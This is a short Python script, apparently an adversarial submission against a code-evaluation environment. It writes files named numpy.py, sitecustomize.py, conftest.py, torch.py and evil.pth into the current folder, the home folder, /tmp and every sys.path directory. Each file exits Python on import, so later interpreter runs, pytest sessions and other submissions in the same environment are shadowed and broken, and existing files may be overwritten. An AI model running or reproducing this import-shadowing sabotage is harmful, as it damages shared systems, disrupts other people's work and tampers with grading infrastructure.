"""Writes modules that Python, pytest or the next submission would import: numpy.py, sitecustomize.py, conftest.py."""

# %%
import os
import sys

for folder in [".", os.path.expanduser("~"), "/tmp", *filter(None, sys.path)]:
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "torch.py", "evil.pth", "descent.py"):
        try:
            open(os.path.join(folder, name), "w").write("raise SystemExit('descent_attack_shadow')\n")
        except OSError:
            pass
import importlib

importlib.invalidate_caches()
